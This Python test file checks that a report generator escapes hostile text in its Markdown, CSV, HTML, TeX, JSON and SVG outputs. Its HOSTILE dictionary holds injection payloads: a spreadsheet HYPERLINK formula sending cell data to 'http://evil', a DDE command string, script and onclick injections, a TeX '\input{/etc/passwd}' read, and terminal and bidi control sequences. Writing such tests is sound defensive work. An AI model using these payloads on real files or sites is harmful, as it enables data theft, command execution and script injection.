"""Names, sections, reasons and paths that try to break out of a report, in each format."""

from __future__ import annotations

import csv
import dataclasses
import io
import itertools
import json
import re
from html.parser import HTMLParser
from xml.etree import ElementTree as ET

from darkmagic.checklist.model import Checklist, Trick
from darkmagic.checklist.records import Status
from darkmagic.checklist.report.content import Report
from darkmagic.checklist.report.plots.all import draw_plots
from darkmagic.checklist.report.plots.style import standalone
from darkmagic.checklist.report.write import FORMATS, write_report
from darkmagic.checklist.report.writers.markdown import HEADS
from records import report_of, simulated

HOSTILE = {
    "formula": '=HYPERLINK("http://evil/?x="&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "link": "[click](http://evil) ![](http://evil/x.png)",
    "reference": "[click][1]\n\n[1]: http://evil",
    "autolink": "<http://evil>",
    "script": "</td><script>alert(1)</script>",
    "attribute": '" onclick="alert(1)',
    "entity": "&lt;b&gt; &#x202e;",
    "table": "a | b | c",
    "fence": "``` `` `",
    "lines": "one\ntwo\r\nthree\u2028four\n# head\n- item",
    "emphasis": "**a** __b__ ~~c~~",
    "formula of TeX": r"\input{/etc/passwd} $\frac{ $ %",
    "terminal": "\x1b[31mred\x1b]0;title\x07\x9b2J\x00",
    "direction": "\u202eevil\u2066\u200b",
    "Chinese": "\u6df7\u5408",
    "not UTF-8": "caf\udce9",
}
UNSEEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]"
)


class _Tags(HTMLParser):
    """Counts what could act in a page."""

    def __init__(self) -> None:
        super().__init__()
        self.scripts = 0
        self.attributes: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.scripts += tag == "script"
        self.attributes |= {name for name, _ in attrs}


EVERY = "\n".join(HOSTILE.values())
"""All of them, for what a report has one of."""


def _report() -> Report:
    """Return a report in which each text is an option, a section, a reason and a command."""
    tricks = tuple(
        Trick(f"trick{number}", text, ("off", text)) for number, text in enumerate(HOSTILE.values())
    )
    checklist = Checklist("mine", tricks)
    records = [
        dataclasses.replace(r, status=Status.FAILED, accuracy=None, reason=r.option)
        if r.trick and r.seed == 1
        else r
        for r in simulated(checklist, 2, {})
    ]
    return report_of(
        records,
        checklist,
        title=EVERY,
        facts={"machine": EVERY},
        overrides=(f"dataset.source.root={EVERY}",),
        reproduce={r.name: f"darkmagic train {r.name}" for r in records},
        cards={f"trick{n}": text for n, text in enumerate(HOSTILE.values())},
        remarks=(EVERY, *HOSTILE.values()),
    )


def test_no_format_lets_a_text_act() -> None:
    """No control character, no half of one, no script, link, formula or further cell is left."""
    report = _report()
    drawn = draw_plots(report)
    written = {form: write_report(report, form) for form in FORMATS}
    for form, content in written.items():
        assert not UNSEEN.search(content), form
        content.encode()
    _check_markdown(written["md"])
    _check_csv(written["csv"])
    tags = _Tags()
    tags.feed(written["html"])
    assert tags.scripts == 1
    assert not {name for name in tags.attributes if name.startswith("on")}
    assert not re.search(r"(?<!\\)[$]\\frac|\\input", written["tex"])
    assert "\n\n" not in written["tex"]
    options = {row["option"] for row in json.loads(written["json"])["rows"]}
    assert options >= set(HOSTILE.values())
    for svg in drawn.values():
        ET.fromstring(standalone(svg))


def _check_markdown(content: str) -> None:
    lines = content.splitlines()
    table = [line for line in lines if line.startswith("| ")]
    assert len(table) == 2 + len(HOSTILE)
    assert {len(re.findall(r"(?<!\\)\|", line)) for line in table} == {len(HEADS) + 1}
    prose = re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", content)  # without what is code
    for syntax in (r"(?<!\\)\[", r"(?<!\\)\]", r"(?<!\\)<", r"(?<!\\)&", r"^\[1\]:"):
        assert not re.search(syntax, prose, re.MULTILINE), (syntax, prose)
    assert sum(line.startswith("# ") for line in lines) == 1


def _check_csv(content: str) -> None:
    rows = list(csv.reader(io.StringIO(content)))
    assert len(rows) == 2 + len(HOSTILE)
    assert len({len(row) for row in rows}) == 1
    for cell in itertools.chain(*rows):
        is_number = re.fullmatch(r"-?[\d.e+-]+", cell)
        assert is_number or not cell.lstrip().startswith(("=", "+", "-", "@")), cell
